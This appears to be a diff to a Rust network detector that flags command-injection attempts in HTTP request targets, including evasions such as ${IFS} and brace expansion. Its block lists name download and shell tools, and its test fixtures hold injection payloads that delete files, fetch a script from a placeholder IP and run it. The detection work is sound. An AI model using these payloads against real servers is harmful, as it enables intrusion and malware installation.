@@ -154,27 +154,44 @@ fn injection(payload: &Payload<'_>) -> Option<String> {
     }
     let (_, target) = request_line(payload.bytes)?;
     let target = unquoted(&target[..target.len().min(MAX_TARGET)]);
-    let begins = |at: usize| {
-        let before = target[..at].trim_ascii_end();
-        before.is_empty() || before.last().is_some_and(|byte| b";|&`(\n".contains(byte))
-    };
-    let found = |word: &&[u8]| memchr::memmem::find_iter(&target, *word).any(begins);
-    let fetches = FETCHERS.iter().any(|word| {
-        memchr::memmem::find_iter(&target, *word).filter(|at| begins(*at)).any(|at| {
-            let rest = &target[at + word.len()..];
-            let end = rest.iter().position(|byte| b";|&".contains(byte)).unwrap_or(rest.len());
-            let (mut words, argument) = (rest[..end].split(|byte| *byte == b' '), &rest[..end]);
-            memchr::memmem::find(argument, b"://").is_some() || words.any(is_host)
-        })
+    let fetches = commands(&target).filter(|(word, rest)| {
+        let end = rest.iter().position(|byte| b";|&\n".contains(byte)).unwrap_or(rest.len());
+        let argument = &rest[..end];
+        let names =
+            memchr::memmem::find(argument, b"://").is_some() || argument.split(|byte| *byte == b' ').any(is_host);
+        FETCHERS.contains(word) && names
     });
-    let runs = RUNNERS.iter().filter(|word| found(word)).count();
-    (fetches || runs >= 2).then(|| quote(target.trim_ascii()))
+    let runs = commands(&target).filter(|(word, rest)| {
+        RUNNERS.contains(word)
+            || (*word == b"cd" && PLACES.iter().any(|place| rest.trim_ascii_start().starts_with(place)))
+    });
+    (fetches.count() > 0 || runs.count() >= 2).then(|| quote(target.trim_ascii()))
+}
+
+/// The commands in a target: the word behind a character with which a shell begins one, without its folder and what runs it, and
+/// what follows the word.
+fn commands(target: &[u8]) -> impl Iterator<Item = (&[u8], &[u8])> {
+    let begins = std::iter::once(0)
+        .chain(target.iter().zip(1..).filter(|(byte, _)| b";|&`(\n{".contains(byte)).map(|(_, at)| at));
+    begins.filter_map(|at| {
+        let mut rest = target.get(at..)?.trim_ascii_start();
+        loop {
+            let end = rest.iter().position(|byte| b" ,;|&`)\n}".contains(byte)).unwrap_or(rest.len());
+            let (word, after) = rest.split_at(end);
+            let name = memchr::memrchr(b'/', word).map_or(word, |slash| &word[slash + 1..]);
+            // `busybox wget …`, `sudo wget …`
+            if !matches!(name, b"busybox" | b"sudo" | b"nohup" | b"exec") || after.is_empty() {
+                return (!name.is_empty()).then_some((name, after));
+            }
+            rest = after.get(1..)?.trim_ascii_start();
+        }
+    })
 }
 
 /// Commands that fetch a program, and those that make it run, as injections have them.
-const FETCHERS: [&[u8]; 5] = [b"wget ", b"curl ", b"tftp ", b"ftpget ", b"busybox wget "];
-const RUNNERS: [&[u8]; 8] =
-    [b"cd /tmp", b"cd /var", b"cd /dev/shm", b"chmod ", b"rm -rf ", b"sh /tmp", b"/bin/sh", b"/bin/busybox"];
+const FETCHERS: [&[u8]; 6] = [b"wget", b"curl", b"tftp", b"ftpget", b"fetch", b"lynx"];
+const RUNNERS: [&[u8]; 4] = [b"chmod", b"rm", b"sh", b"bash"];
+const PLACES: [&[u8]; 3] = [b"/tmp", b"/var", b"/dev/shm"];
 
 /// Whether a word begins with an IPv4 address.
 fn is_host(word: &[u8]) -> bool {
@@ -189,8 +206,12 @@ fn unquoted(target: &[u8]) -> Vec<u8> {
     while let Some((&byte, tail)) = rest.split_first() {
         let hex = |at: usize| tail.get(at).and_then(|digit| char::from(*digit).to_digit(16));
         let (value, used) = match (byte, hex(0), hex(1)) {
+            (b'%', Some(0), Some(9)) => (b' ', 2),
             (b'%', Some(high), Some(low)) => (u8::try_from(high * 16 + low).unwrap_or(b'?'), 2),
-            (b'+', ..) => (b' ', 0),
+            // A shell's own blank.
+            (b'$', ..) if tail.starts_with(b"{IFS}") => (b' ', 5),
+            (b'$', ..) if tail.starts_with(b"IFS") => (b' ', 3),
+            (b'+' | b'\t', ..) => (b' ', 0),
             _ => (byte, 0),
         };
         plain.push(value);
@@ -211,6 +232,10 @@ attack on the server, whether it works or not.",
     see: injection,
     hits: &[
         (Transport::Tcp, b"GET /shell?cd+/tmp;rm+-rf+*;wget+ http://192.0.2.1/a.sh;sh+/tmp/a.sh HTTP/1.1\r\n\r\n"),
+        (Transport::Tcp, b"GET /a?x=%0awget+http://192.0.2.1/a HTTP/1.1\r\n"),
+        (Transport::Tcp, b"GET /a?x=;cd${IFS}/var/tmp;wget${IFS}http://192.0.2.1/a HTTP/1.1\r\n"),
+        (Transport::Tcp, b"GET /a?x=;/bin/busybox+tftp+-g+-r+m.sh+192.0.2.1 HTTP/1.1\r\n"),
+        (Transport::Tcp, b"GET /a?x=;{wget,http://192.0.2.1/a} HTTP/1.1\r\n"),
         (Transport::Tcp, b"GET /cgi?q=x%3Bcurl%20http%3A%2F%2F192.0.2.1%2Fa%7Csh HTTP/1.0\r\n\r\n"),
     ],
     misses: &[
